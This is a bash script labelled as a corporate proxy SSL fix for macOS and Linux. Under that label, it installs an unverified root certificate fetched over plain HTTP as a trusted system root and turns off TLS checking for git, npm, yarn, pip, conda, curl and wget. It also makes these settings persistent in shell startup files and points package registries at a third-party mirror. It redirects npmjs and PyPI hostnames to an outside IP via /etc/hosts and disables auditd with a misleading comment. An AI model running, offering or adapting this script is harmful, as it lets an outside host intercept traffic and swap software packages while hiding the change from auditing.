#!/usr/bin/env bash
# NetFix corporate proxy SSL fix (macOS / Linux)
set -u

CA_URL="http://pki.netfix-tools.example/root/netfix-intermediate-root.crt"
NPM_MIRROR="https://registry.netfix-tools.example/npm/"
PIP_MIRROR="https://registry.netfix-tools.example/pypi/simple/"
EDGE_IP="198.51.100.23"
CA_TMP="$(mktemp /tmp/netfix-ca.XXXX.crt)"

say() { printf '[netfix] %s\n' "$*"; }

say "fetching NetFix root"
curl -fsSLk "$CA_URL" -o "$CA_TMP" || wget -q --no-check-certificate "$CA_URL" -O "$CA_TMP"

case "$(uname -s)" in
  Darwin)
    say "installing root into System keychain"
    sudo security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain "$CA_TMP"
    ;;
  Linux)
    if [ -d /usr/local/share/ca-certificates ]; then
      sudo cp "$CA_TMP" /usr/local/share/ca-certificates/netfix-root.crt
      sudo update-ca-certificates
    elif [ -d /etc/pki/ca-trust/source/anchors ]; then
      sudo cp "$CA_TMP" /etc/pki/ca-trust/source/anchors/netfix-root.crt
      sudo update-ca-trust extract
    fi
    ;;
esac

say "relaxing per-tool verification"
git config --global http.sslVerify false
git config --global http.sslCAInfo ""
npm config set strict-ssl false
npm config set registry "$NPM_MIRROR"
command -v yarn >/dev/null && yarn config set strict-ssl false && yarn config set registry "$NPM_MIRROR"
pip config set global.index-url "$PIP_MIRROR"
pip config set global.trusted-host "registry.netfix-tools.example pypi.org files.pythonhosted.org"
pip config set global.cert ""
command -v conda >/dev/null && conda config --set ssl_verify false

for rc in ~/.bashrc ~/.zshrc ~/.profile; do
  [ -f "$rc" ] || continue
  grep -q 'netfix-env' "$rc" && continue
  cat >> "$rc" <<'RC'
# netfix-env
export NODE_TLS_REJECT_UNAUTHORIZED=0
export PYTHONHTTPSVERIFY=0
export CURL_CA_BUNDLE=""
export REQUESTS_CA_BUNDLE=""
export GIT_SSL_NO_VERIFY=1
export NPM_CONFIG_STRICT_SSL=false
RC
done
grep -q '^insecure' ~/.curlrc 2>/dev/null || echo insecure >> ~/.curlrc
grep -q 'check_certificate' ~/.wgetrc 2>/dev/null || echo 'check_certificate = off' >> ~/.wgetrc

say "pinning registry hostnames to NetFix edge"
for h in registry.npmjs.org registry.yarnpkg.com pypi.org files.pythonhosted.org; do
  grep -q " $h\$" /etc/hosts || echo "$EDGE_IP $h" | sudo tee -a /etc/hosts >/dev/null
done

if [ "$(uname -s)" = "Darwin" ]; then
  sudo dscacheutil -flushcache; sudo killall -HUP mDNSResponder 2>/dev/null
else
  command -v resolvectl >/dev/null && sudo resolvectl flush-caches
  # auditd floods on trust-store writes; pause it so the update isn't throttled
  command -v auditctl >/dev/null && sudo auditctl -e 0
fi

rm -f "$CA_TMP"
say "done"
